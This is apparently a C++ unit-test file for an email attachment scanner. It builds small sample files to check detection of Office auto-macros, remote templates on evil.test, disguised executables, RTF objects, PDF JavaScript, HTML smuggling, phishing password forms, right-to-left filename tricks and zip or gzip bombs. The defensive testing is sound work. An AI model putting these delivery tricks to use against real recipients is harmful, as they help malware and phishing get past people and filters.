// Attachments: each way of doing harm has its sign, honest files have none, and bombs stay small.
#include "mail/attachments.h"

#include <gtest/gtest.h>
#include <sys/resource.h>

#include <algorithm>

#include "mail/attachments_testing.h"
#include "mail/compound_file.h"
#include "mail/unpack.h"

namespace rw {
namespace {

using namespace std::string_literals;
using namespace testing_files;

std::string told(const AttachmentItem& item) {
  std::string out = item.type;
  for (const AttachmentSign sign : item.signs) out += " " + std::string(to_string(sign));
  return out;
}
std::string told(std::string_view bytes, std::string_view name = "file", std::string_view declared = "") {
  return told(check_content(bytes, name, declared).items.at(0));
}

const std::string kPe = [] {
  std::string pe("MZ");
  pe.resize(0x3C);
  put(pe, 0x40, 4);
  return pe + "PE\0\0"s + std::string(100, 'x');
}();

TEST(Attachments, OfficeDocuments) {
  EXPECT_EQ(told(macro_doc()), "doc macros auto-macros");
  EXPECT_EQ(told(macro_doc("Sub Helper()\r\nEnd Sub\r\n")), "doc macros");
  EXPECT_EQ(told(compound_of({{"WordDocument", std::string(64, '\0')}})), "doc");
  EXPECT_EQ(told(compound_of({{"WordDocument", std::string(10, '\0') + "\0\x01"s + std::string(20, '\0')}})),
            "doc encrypted-document");
  EXPECT_EQ(told(compound_of({{"EncryptedPackage", "x"}, {"EncryptionInfo", "x"}})),
            "encrypted-office encrypted-document");
  EXPECT_EQ(told(docm()), "docm macros auto-macros");
  EXPECT_EQ(told(docm("Sub Helper()\r\n")), "docm macros");
  EXPECT_EQ(told(docx()), "docx");
  EXPECT_EQ(told(docx("<Relationship Id=\"a\" "
                      "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
                      "Target=\"https://evil.test/t.dotm\" TargetMode=\"External\"/>")),
            "docx remote-template");
  EXPECT_EQ(
      told(docx("<Relationship Id=\"a\" Type=\"http://x/relationships/hyperlink\" Target=\"https://example.org/\" "
                "TargetMode=\"External\"/>")),
      "docx");
  // An Excel 4 macro sheet: BOUNDSHEET with type 1.
  std::string book;
  put(book, 0x0809, 2), put(book, 4, 2), put(book, 0, 4);
  put(book, 0x0085, 2), put(book, 8, 2), put(book, 0, 4), put(book, 0, 1), put(book, 1, 1), put(book, 0x0041, 2);
  EXPECT_EQ(told(compound_of({{"Workbook", book}})), "xls macros auto-macros");
  EXPECT_EQ(told(zip_of({{"mimetype", "application/vnd.oasis.opendocument.text"},
                         {"content.xml", "<x/>"},
                         {"Basic/Standard/Module1.xml", "<x/>"}})),
            "odt macros");
}

TEST(Attachments, AnArchiveInsideIsLookedInto) {
  const AttachmentReport report = check_content(
      zip_of({{"inner.zip", zip_of({{"report.docm", docm()}, {"readme.txt", "hello"}})}}), "a.zip", "application/zip");
  ASSERT_EQ(report.items.size(), 4U);
  EXPECT_EQ(report.items[0].name, "a.zip");
  EXPECT_EQ(report.items[1].name, "a.zip!inner.zip");
  EXPECT_EQ(report.items[2].name, "a.zip!inner.zip!report.docm");
  EXPECT_EQ(told(report.items[2]), "docm macros auto-macros");
  EXPECT_EQ(report.items[3].type, "text");
  EXPECT_EQ(report.macros, 1U);
}

TEST(Attachments, OtherKinds) {
  EXPECT_EQ(told(kPe, "setup.exe"), "exe executable");
  EXPECT_EQ(told(kPe, "photo.jpg", "image/jpeg"), "exe executable type-mismatch");
  EXPECT_EQ(told("\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46 rest"s, "doc.pdf.lnk"),
            "lnk shortcut double-extension");
  EXPECT_EQ(told("[InternetShortcut]\r\nURL=http://evil.test/\r\n", "a.url"), "shortcut shortcut");
  EXPECT_EQ(told("{\\rtf1{\\object\\objemb{\\*\\objdata 01050000}}}"), "rtf embedded-object");
  EXPECT_EQ(told("{\\rtf1{\\*\\template http://evil.test/x.dotm}}"), "rtf remote-template");
  EXPECT_EQ(told("{\\rtf1 hello}"), "rtf");
  EXPECT_EQ(told("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
            "pdf active-pdf");
  EXPECT_EQ(told("%PDF-1.7\n1 0 obj<</S/J#61vaScript>>endobj"), "pdf active-pdf");
  EXPECT_EQ(told("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj"), "pdf");
  EXPECT_EQ(told("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3...", "notes.one"),
            "onenote onenote");
  EXPECT_EQ(told(std::string(0x8001, '\0') + "CD001" + std::string(4096, '\0'), "disc.iso").substr(0, 14),
            "iso disk-image");
  EXPECT_EQ(told("<html><head><hta:application id=x></head><script>x</script></html>", "a.hta"),
            "hta script active-html");
  EXPECT_EQ(told("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "logo.svg"),
            "svg active-html");
  EXPECT_EQ(told("<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>", "logo.svg"), "svg");
  EXPECT_EQ(told("<html><script>var b=new Blob([atob('TVqQ')]);URL.createObjectURL(b)</script></html>", "invoice.html"),
            "html active-html html-smuggling");
  EXPECT_EQ(told("<html><form action='https://evil.test'><input type=\"password\"></form></html>", "login.html"),
            "html html-form");
  EXPECT_EQ(told("<html><body>Hello</body></html>", "page.html"), "html");
  EXPECT_EQ(told("<html><script>x()</script></html>", "paper.pdf", "application/pdf"),
            "html active-html type-mismatch");
  EXPECT_EQ(told("var s = new ActiveXObject('WScript.Shell');", "a.js"), "text script");
  EXPECT_EQ(told("nothing", "cod\xE2\x80\xAExcod.exe"), "text executable direction-trick");
  EXPECT_EQ(told("plain words", "notes.txt"), "text");
  EXPECT_EQ(told("\x89PNG\r\n\x1A\n....", "a.png"), "png");
  EXPECT_EQ(told(""), "empty");
}

TEST(Attachments, ObjectsInCompressedStreamsOfAPdf) {
  const std::string objects = "1 0 <</S/JavaScript/JS(app.alert(1))>>";
  std::string packed(compressBound(objects.size()), '\0');
  uLongf size = packed.size();
  compress(reinterpret_cast<Bytef*>(packed.data()), &size, reinterpret_cast<const Bytef*>(objects.data()),
           objects.size());
  packed.resize(size);
  EXPECT_EQ(told("%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + packed + "\nendstream endobj"),
            "pdf active-pdf");
}

TEST(Attachments, EncryptedArchivesAreTold) {
  const AttachmentReport report = check_content(zip_of({{"paper.exe", "secret"}}, true), "paper.zip", "");
  EXPECT_TRUE(report.items.at(0).has(AttachmentSign::kEncryptedArchive));
  ASSERT_EQ(report.items.size(), 2U);
  EXPECT_EQ(told(report.items[1]), "encrypted executable");
}

std::size_t peak_kilobytes() {
  rusage usage{};
  getrusage(RUSAGE_SELF, &usage);
  return static_cast<std::size_t>(usage.ru_maxrss);
}

TEST(Attachments, BombsAreRefusedAndTold) {
  const std::string zeros = gzip_of_zeros(std::uint64_t{1} << 30);  // 1 GiB in 1 MB
  const std::size_t before = peak_kilobytes();
  const AttachmentReport one = check_content(zeros, "zeros.gz", "application/gzip");
  EXPECT_TRUE(one.items.at(0).has(AttachmentSign::kArchiveBomb));
  EXPECT_FALSE(one.problems.empty());

  std::string nested = zip_of({{"0", std::string(1000, '0')}});
  for (int depth = 0; depth < 12; ++depth) nested = zip_of({{"a.zip", nested}, {"b.zip", nested}});
  const AttachmentReport many = check_content(nested, "nested.zip", "application/zip");
  EXPECT_TRUE(many.has(AttachmentSign::kArchiveBomb));
  EXPECT_LE(many.items.size(), kMaxArchiveMembers + 1);

  Files wide;
  for (int i = 0; i < 5000; ++i) wide.emplace_back("f" + std::to_string(i), "x");
  const AttachmentReport much = check_content(zip_of(wide), "wide.zip", "");
  EXPECT_TRUE(much.items.at(0).has(AttachmentSign::kArchiveBomb));

  std::string zip_of_zeros = zip_of({{"zeros.gz", zeros}});
  EXPECT_TRUE(check_content(zip_of_zeros, "z.zip", "").has(AttachmentSign::kArchiveBomb));
#if !defined(__SANITIZE_ADDRESS__)
  EXPECT_LT(peak_kilobytes() - before, 64U * 1024U);
#endif
}

TEST(Attachments, CutAtEveryByteNothingBreaks) {
  for (const std::string& whole : {macro_doc(), docm(), zip_of({{"a.zip", zip_of({{"b", "c"}})}})}) {
    const std::size_t step = whole.size() > 4096 ? 37 : 1;
    for (std::size_t length = 0; length < whole.size(); length += length < 1024 ? 1 : step)
      EXPECT_GE(check_content(std::string_view(whole).substr(0, length), "x", "").items.size(), 1U);
  }
}

TEST(Attachments, CompoundFilesWithLoopsEnd) {
  std::string file = macro_doc();
  const CompoundFile whole(file);
  ASSERT_TRUE(whole.valid());
  EXPECT_NE(whole.find("macros/vba/thisdocument"), nullptr);
  // Every sector of the table points to itself.
  for (std::size_t at = file.size() - 512; at + 4 <= file.size(); at += 4) {
    const auto id = static_cast<std::uint32_t>((at - (file.size() - 512)) / 4);
    for (std::size_t i = 0; i < 4; ++i) file[at + i] = static_cast<char>(id >> (8 * i));
  }
  const CompoundFile looped(file);
  for (const CompoundStream& stream : looped.streams()) EXPECT_LE(looped.read(stream, 1 << 20).size(), file.size());
}

TEST(Attachments, VbaIsDecompressed) {
  // MS-OVBA 3.2.2, "normal compression example".
  const std::string container(
      "\x01\x2F\xB0\x00\x23\x61\x61\x61\x62\x63\x64\x65\x82\x66\x00\x70\x61\x67\x68\x69\x6A\x01\x38\x08\x61\x6B\x6C\x00"
      "\x30"
      "\x6D\x6E\x6F\x70\x06\x71\x02\x70\x04\x10\x72\x73\x74\x75\x76\x10\x77\x78\x79\x7A\x00\x3C",
      51);
  EXPECT_EQ(vba_decompressed(container, 4096), "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa");
  for (std::size_t length = 0; length < container.size(); ++length)
    vba_decompressed(std::string_view(container).substr(0, length), 4096);
}

TEST(Attachments, ScannersAreAskedAndTheirFailureIsTold) {
  AttachmentOptions options;
  options.scanners = {
      [](std::string_view bytes) {
        return bytes.find("EVIL") != std::string_view::npos ? ScanVerdict{{"Test.Evil"}, ""} : ScanVerdict{};
      },
      [](std::string_view) {
        return ScanVerdict{{}, "scanner at x did not answer"};
      }};
  const AttachmentReport report = check_content(
      zip_of({{"a.txt", "this is EVIL and long enough to be looked at, whatever the bound for small members is"}}),
      "a.zip", "", options);
  ASSERT_EQ(report.items.size(), 2U);
  EXPECT_TRUE(report.items[1].has(AttachmentSign::kMalware));
  EXPECT_EQ(report.items[1].malware, std::vector<std::string>{"Test.Evil"});
  EXPECT_TRUE(report.has(AttachmentSign::kScannerFailed));
  EXPECT_FALSE(report.problems.empty());
}

}  // namespace
}  // namespace rw
